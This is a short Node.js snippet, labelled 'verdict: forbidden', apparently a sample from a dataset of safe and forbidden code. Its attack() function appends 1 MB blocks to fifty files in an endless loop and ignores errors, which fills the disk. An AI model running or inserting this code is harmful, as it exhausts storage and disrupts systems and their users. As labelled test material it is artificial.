// verdict: forbidden
const fs = require("fs");
function attack() {
  const block = Buffer.alloc(1 << 20, 1);
  for (let i = 0; ; i++) {
    try { fs.appendFileSync(`f${i % 50}`, block); } catch {}
  }
}
